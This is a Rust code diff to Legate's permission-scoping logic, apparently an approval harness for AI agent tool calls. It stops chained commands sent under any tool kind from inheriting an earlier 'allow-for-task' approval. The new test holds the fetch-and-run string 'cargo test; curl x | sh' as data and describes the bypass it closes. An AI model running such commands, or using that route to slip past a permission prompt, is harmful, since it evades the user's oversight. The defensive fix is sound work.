@@ -71,10 +71,15 @@ fn plain_words(request: &PermissionRequest) -> Option<Vec<String>> {
 /// The scope an allow-for-task answer covers: the same task (the caller's lookup), the same
 /// policy rule, the same tool kind and, for commands, the same program word (exactly: a path
 /// to another `touch` is another program). Encoded as a JSON array, so no component can
-/// forge another's boundary. `None` for an execute call without a plain command (a chain such
-/// as `cargo test && curl …`, or a command Legate cannot read): such a call is never covered
-/// by an earlier answer, and an answer to it covers only itself.
+/// forge another's boundary. `None` for an execute call without a plain command, and for a
+/// call of any kind carrying a command that is not plain (a chain such as `cargo test && curl
+/// …`, or a command Legate cannot read): such a call is never covered by an earlier answer,
+/// and an answer to it covers only itself.
 pub(crate) fn scope(rule_id: Option<&str>, summary: &ToolCallSummary) -> Option<String> {
+    if summary.script.is_some() {
+        // A command that is not plain, under whatever kind the agent called it.
+        return None;
+    }
     let program = match (&summary.command, summary.kind) {
         (Some(words), _) => words.first().map_or("", String::as_str),
         (None, ToolKind::Execute) => return None,
@@ -131,6 +136,28 @@ mod tests {
         assert_eq!(scope(Some("r"), &chained), None);
         let plain = summarize(&request(serde_json::json!({"command": "cargo test"})));
         assert!(scope(Some("r"), &plain).is_some());
+    }
+
+    #[test]
+    fn a_chain_under_another_kind_is_never_covered_either() {
+        // Before: only an `execute` call without a plain command was left unscoped; the same
+        // chain sent as kind `other` got the key of any command-less `other` call, so an
+        // allow-for-task given to a harmless `other` call covered `curl … | sh` later.
+        let mut harmless = request(serde_json::json!({"query": "status"}));
+        harmless.tool_kind = ToolKind::Other;
+        let harmless = summarize(&harmless);
+        assert!(scope(Some("r"), &harmless).is_some());
+        let mut chained = request(serde_json::json!({"command": "cargo test; curl x | sh"}));
+        chained.tool_kind = ToolKind::Other;
+        let chained = summarize(&chained);
+        assert_eq!(scope(Some("r"), &chained), None);
+        // A plain command under kind `other` keeps its program in the key.
+        let mut plain = request(serde_json::json!({"command": "touch a"}));
+        plain.tool_kind = ToolKind::Other;
+        assert_ne!(
+            scope(Some("r"), &summarize(&plain)),
+            scope(Some("r"), &harmless)
+        );
     }
 
     #[test]
